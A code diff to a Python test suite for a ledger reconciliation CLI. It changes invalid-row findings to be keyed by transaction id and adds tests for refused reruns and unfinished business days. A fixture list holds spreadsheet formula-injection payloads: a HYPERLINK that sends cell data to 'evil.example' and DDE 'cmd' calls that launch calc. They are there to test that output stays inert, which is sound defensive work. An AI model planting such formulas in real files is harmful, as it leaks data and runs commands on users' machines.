@@ -37,7 +37,7 @@ from hypothesis import strategies as st
 from ledger.cli import main
 from ledger.config import Settings
 from ledger.errors import LedgerError
-from ledger.finance import csv_cells, tasks
+from ledger.finance import business_day, csv_cells, tasks
 from ledger.finance.transactions import COLUMNS
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
@@ -61,8 +61,8 @@ def world(tmp_path_factory) -> World:
     d = tmp_path_factory.mktemp("hostile")
     env = {"LEDGER_KEY_PASSPHRASE": "pw", "LEDGER_KEY_DIR": str(d / "private"), "LEDGER_VKEY_DIR": str(d / "keys"),
            "LEDGER_STATE_DIR": str(d / "state"), "LEDGER_DATABASE_URL": f"sqlite:///{d}/ledger.db"}
-    as_of = datetime.now(UTC).date()
-    for args in (["demo", "--entries", "60", "--seed", "5"],
+    as_of = business_day.last_finished(datetime.now(UTC))  # a finished day; the ledger recorded on it
+    for args in (["demo", "--entries", "60", "--seed", "5", "--recorded-on", as_of.isoformat()],
                  ["demo-funding", "--out", str(d / "funding"), "--seed", "5", "--as-of", as_of.isoformat()]):
         result = CliRunner().invoke(main, args, env=env, catch_exceptions=False)
         assert result.exit_code == 0, result.output
@@ -82,12 +82,15 @@ class Outcome:
     anchor_seq: int | None
 
 
-def reconcile(w: World, funding: str, *extra: str, table: str | None = None) -> Outcome:
-    """``ledger reconcile`` as a user runs it, and the invariants every run keeps."""
+def reconcile(w: World, funding: str, *extra: str, table: str | None = None, name: str | None = None) -> Outcome:
+    """``ledger reconcile`` as a user runs it, and the invariants every run keeps.
+    Each CSV input is its own funding system (``name``): one night, many inputs."""
     out = w.dir / "out" / f"r{next(_ids)}"
     args = ["reconcile", "--funding", funding, "--as-of", w.as_of.isoformat(), "--out", str(out), "--json", *extra]
     if table:
         args += ["--funding-table", table]
+    if name:
+        args += ["--funding-name", name]
     result = CliRunner().invoke(main, args, env=w.env)
     assert result.exception is None or isinstance(result.exception, SystemExit), result.output
     assert result.exit_code in (0, 2), result.output  # never 1 (a verdict) or 70 (a bug)
@@ -114,13 +117,13 @@ def _assert_findings_csv_inert(path: Path, report: dict) -> None:
     assert [csv_cells.unescape(r[1]) for r in rows[1:]] == [f["txn_id"] or "" for f in report["findings"]]
 
 
-def airflow(w: World, spec: str, table: str | None, cli: Outcome) -> None:
+def airflow(w: World, spec: str, table: str | None, cli: Outcome, name: str | None = None) -> None:
     """The nightly DAG's tasks on the same input: the CLI's report byte for byte,
     nothing more anchored; or, where the CLI refused, a typed error and nothing written."""
     out = w.dir / "dag" / f"d{next(_ids)}"
     s = Settings.from_env(w.env)
     try:
-        snap = tasks.extract(spec, table, w.as_of, out)
+        snap = tasks.extract(s, spec, table, w.as_of, out, name)
         produced = tasks.reconcile_snapshot(s, snap["path"], w.as_of, out)
         anchored = tasks.anchor_report(s, produced["directory"])
     except LedgerError as e:
@@ -136,8 +139,9 @@ def csv_run(w: World, data: bytes, name: str = "funding") -> Outcome:
     path = w.dir / "in" / f"{next(_ids)}-{name}.csv"
     path.parent.mkdir(exist_ok=True)
     path.write_bytes(data)
-    cli = reconcile(w, str(path))
-    airflow(w, str(path), None, cli)
+    system = f"in-{next(_ids)}"
+    cli = reconcile(w, str(path), name=system)
+    airflow(w, str(path), None, cli, system)
     return cli
 
 
@@ -152,9 +156,15 @@ def row(txn_id="H1", kind="payment", reverses="", grant_ref="NMG-NOSUCH", scheme
     return [txn_id, kind, reverses, grant_ref, scheme, payee, amount, booked, programme]
 
 
-def invalid(report: dict) -> dict[int, str]:
-    """The invalid_row findings by row number: their messages."""
-    return {f["amounts"]["line"]: f["message"] for f in report["findings"] if f["kind"] == "invalid_row"}
+def invalid(report: dict) -> dict[str, str]:
+    """The invalid_row findings by txn_id ("" for none): their messages. Rows are
+    named by content, never by position (decision 0014)."""
+    return {f["txn_id"] or "": f["message"] for f in report["findings"] if f["kind"] == "invalid_row"}
+
+
+def unread(report: dict) -> list[str]:
+    """The messages of rows that were not read at all."""
+    return [f["message"] for f in report["findings"] if f["kind"] == "invalid_row" and "was not read" in f["message"]]
 
 
 def txn_ids(report: dict) -> set[str]:
@@ -199,7 +209,7 @@ def test_quoted_newlines_stay_inside_their_field_and_cannot_book_rows(world):
     rows = [*world.base[:3], row("Q1", programme="草原\n英才") + ["x"], row("Q2") + [inner], *world.base[3:5]]
     got = csv_run(world, text(rows, header=[*COLUMNS, "note"]).encode())
     assert got.report["input"]["rows"] == 7
-    assert "programme must be one line of text" in invalid(got.report)[4]
+    assert "programme must be one line of text" in invalid(got.report)["Q1"]
     assert "FAKE-1" not in txn_ids(got.report) and "Q2" in txn_ids(got.report)  # Q2: unknown grant, nothing more
 
 
@@ -219,10 +229,9 @@ def test_an_oversized_field_or_line_is_a_finding_with_its_row_and_reading_goes_o
     tail = ",".join(row("BIG-3")) + "," + "z" * 1_000_000  # the last line: 1 MB, no newline
     got = csv_run(world, (text(rows, header=[*COLUMNS, "note"]) + tail).encode())
     assert got.code == 0 and got.report["input"]["rows"] == 5
-    bad = invalid(got.report)
-    assert sorted(bad) == [2, 3, 5]
-    assert bad[2].startswith("row 2: record is longer than 100000 characters (it starts on line 3 of the file)")
-    assert "(it starts on line 4 of the file)" in bad[3] and "(it starts on line 8 of the file)" in bad[5]  # BIG-2 spans lines 4-6
+    bad = unread(got.report)
+    assert len(bad) == 3 and all(m.endswith("record is longer than 100000 characters and was not read") for m in bad)
+    assert len({m.split(":")[0] for m in bad}) == 3  # each named by its own content digest
     assert "FAKE-2" not in txn_ids(got.report)  # the quoted text after the overflow is not read as rows
     assert "AFTER-1" in txn_ids(got.report)  # the row after it is (an unknown grant)
 
@@ -230,7 +239,7 @@ def test_an_oversized_field_or_line_is_a_finding_with_its_row_and_reading_goes_o
 def test_an_unterminated_quote_ends_the_last_row(world):
     data = text(world.base[:2]) + 'U1,"payment,,NMG-NOSUCH,cn-rid,1,100,2024-01-05,p\r\n'
     got = csv_run(world, data.encode())
-    assert got.report["input"]["rows"] == 3 and "kind must be one of" in invalid(got.report)[3]
+    assert got.report["input"]["rows"] == 3 and "kind must be one of" in invalid(got.report)["U1"]
 
 
 def test_nul_line_separators_and_bidi_overrides_in_identifiers_are_findings(world):
@@ -238,10 +247,10 @@ def test_nul_line_separators_and_bidi_overrides_in_identifiers_are_findings(worl
             row("OK-1") + ["note\x00with\u2028anything"]]
     got = csv_run(world, text(rows, header=[*COLUMNS, "note"]).encode())
     bad = invalid(got.report)
-    assert [bad[i].split("(")[-1] for i in (1, 2, 3, 4, 5)] == [
+    assert [bad[i].split("(")[-1] for i in ("N\\u0000UL", "LS\\u2028X", "PS\\u2029X", "RLO\\u202eX", "TAB\\u0009X")] == [
         "U+0000 at character 2)", "U+2028 at character 3)", "U+2029 at character 3)", "U+202E at character 4)",
         "U+0009 at character 4)"]
-    assert 6 not in bad and got.report["input"]["rows"] == 6  # anything goes in a column the contract ignores
+    assert "OK-1" not in bad and got.report["input"]["rows"] == 6  # anything goes in a column the contract ignores
     shown = {f["txn_id"] for f in got.report["findings"] if f["kind"] == "invalid_row"}
     assert shown == {"N\\u0000UL", "LS\\u2028X", "PS\\u2029X", "RLO\\u202eX", "TAB\\u0009X"}  # named, not passed on
 
@@ -251,7 +260,7 @@ def test_amounts_must_be_plain_positive_integers(world):
     rows = [row(f"A{i}", amount=a) for i, a in enumerate(amounts)] + [row("A-OK", amount=" 100 ")]
     got = csv_run(world, text(rows).encode())
     bad = invalid(got.report)
-    assert sorted(bad) == list(range(1, len(amounts) + 1))
+    assert sorted(bad) == sorted(f"A{i}" for i in range(len(amounts)))
     assert all("amount_fen must be a positive integer number of fen" in m for m in bad.values())
 
 
@@ -344,6 +353,7 @@ def test_pass_one_in_a_spawned_process_fails_and_finds_as_in_line(world, monkeyp
 
     s = Settings.from_env(world.env)
     engine, vault = make_engine(s.database_url), s.vault()
+    now = datetime.now(UTC)
     started = []
     real_start = job._start_scan
     monkeypatch.setattr(job, "_start_scan", lambda *a: started.append(real_start(*a)) or started[-1])
@@ -355,15 +365,48 @@ def test_pass_one_in_a_spawned_process_fails_and_finds_as_in_line(world, monkeyp
     big.write_text(text([*world.base[:3], row("BIG") + ["x" * BIG]], header=[*COLUMNS, "note"]), encoding="utf-8")
     monkeypatch.setattr(job, "PARALLEL_SCAN_BYTES", 0)
     with pytest.raises(ValidationError, match=r"late-gbk.csv is not UTF-8: byte 0x[0-9a-f]{2} at offset \d+ \(line 2002\)"):
-        job.produce(engine, vault, CsvSource(gbk), world.as_of, world.dir / "spawned-gbk")
-    apart = job.produce(engine, vault, CsvSource(big), world.as_of, world.dir / "spawned")
+        job.produce(engine, vault, CsvSource(gbk), world.as_of, world.dir / "spawned-gbk", now=now)
+    apart = job.produce(engine, vault, CsvSource(big, "spawned"), world.as_of, world.dir / "spawned", now=now)
     monkeypatch.setattr(job, "PARALLEL_SCAN_BYTES", 1 << 40)
-    inline = job.produce(engine, vault, CsvSource(big), world.as_of, world.dir / "inline")
+    inline = job.produce(engine, vault, CsvSource(big, "spawned"), world.as_of, world.dir / "inline", now=now)
     assert started[0] is not None and started[1] is not None and started[2] is None  # really in another process
     assert isinstance(started[0].exception(), ValidationError)  # raised there, raised again here in line
-    assert apart.report_sha256 == inline.report_sha256 and 4 in invalid(apart.report)
+    assert apart.report_sha256 == inline.report_sha256 and len(unread(apart.report)) == 1
     assert not (world.dir / "spawned-gbk").exists()
     engine.dispose()
+
+
+def test_a_refused_rerun_on_the_command_line_keeps_the_anchored_reports(world):
+    """Decision 0014 (anchored artefacts are immutable), through ``ledger reconcile``: exit 2, the anchored
+    directory byte for byte as it was, the refused result beside it."""
+    path = world.dir / "in" / "rerun.csv"
+    path.parent.mkdir(exist_ok=True)
+    path.write_bytes(text(world.base[:6]).encode())
+    out = world.dir / "rerun-out"
+    args = ["reconcile", "--funding", str(path), "--funding-name", "rerun", "--as-of", world.as_of.isoformat(),
+            "--out", str(out), "--json"]
+    first = CliRunner().invoke(main, args, env=world.env)
+    assert first.exit_code == 0, first.output
+    folder = Path(json.loads(first.stdout)["directory"])
+    before = {p.name: p.read_bytes() for p in folder.iterdir()}
+    changed = [*world.base[:5], [*world.base[5][:6], str(int(world.base[5][6]) + 1), *world.base[5][7:]]]
+    path.write_bytes(text(changed).encode())
+    refused = CliRunner().invoke(main, args, env=world.env)
+    assert refused.exit_code == 2 and "AnchorMismatch" in refused.output and ".refused-" in refused.output
+    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
+    [beside] = out.glob(f"reconciliation-{world.as_of}.refused-*")
+    assert sorted(p.name for p in beside.iterdir()) == ["findings.csv", "report.json", "summary.html"]
+    assert not [p for p in out.iterdir() if p.name.startswith(".")]
+
+
+def test_an_as_of_that_is_not_finished_is_refused_on_the_command_line(world):
+    """Decision 0014: today (Asia/Shanghai) and later are refused, reading nothing."""
+    today = business_day.day_of(datetime.now(UTC))
+    for day in (today, date(9999, 12, 31)):
+        r = CliRunner().invoke(main, ["reconcile", "--funding", str(world.dir / "no-such.csv"), "--as-of",
+                                      day.isoformat(), "--out", str(world.dir / "unfinished")], env=world.env)
+        assert r.exit_code == 2 and "is not finished" in r.output and "no such file" not in r.output
+    assert not (world.dir / "unfinished").exists()
 
 
 def test_score_findings_refuses_what_is_not_a_report_and_fails_a_mismatch_in_json(world):
@@ -414,8 +457,8 @@ def test_sql_amounts_and_dates_of_any_type_are_findings_not_crashes(world):
             row("S5", booked="2024-01-05 10:00:00"), row("S6", booked="garbage"), row(None), row("S8", amount=None)]
     got = sql_run(world, rows, types="DATE")  # a DATE column: SQLAlchemy would parse it, and raise on garbage
     bad = invalid(got.report)
-    assert sorted(bad) == list(range(1, 9))  # in txn_id order: NULL first
-    assert "txn_id is required" in bad[1] and "booked_on must be a date" in bad[6]
+    assert sorted(bad) == ["", "S1", "S2", "S3", "S4", "S5", "S6", "S8"]
+    assert "txn_id is required" in bad[""] and "booked_on must be a date" in bad["S6"]
 
 
 def test_sql_text_that_is_not_unicode_or_too_long_is_a_finding(world):
@@ -457,7 +500,11 @@ def test_postgresql_typed_columns_and_values_python_cannot_hold(world):
         got = reconcile(world, PG_OWNER, table=f"{schema}.payments")
         airflow(world, PG_OWNER, f"{schema}.payments", got)
         assert got.code == 0 and got.report["input"]["rows"] == 4
-        assert sorted(invalid(got.report)) == [2, 3, 4] and "P1" in txn_ids(got.report)  # P1: an unknown grant
+        # Airflow's connection style (postgres://) is the same source: the same anchor.
+        airflow_style = PG_OWNER.replace("postgresql+psycopg://", "postgres://")
+        same = reconcile(world, airflow_style, table=f"{schema}.payments")
+        assert same.code == 0 and same.anchor_seq == got.anchor_seq and same.sha256 == got.sha256
+        assert sorted(invalid(got.report)) == ["P2", "P3", "P4"] and "P1" in txn_ids(got.report)  # P1: an unknown grant
     finally:
         with engine.begin() as conn:
             conn.execute(sql(f"DROP SCHEMA IF EXISTS {schema} CASCADE"))
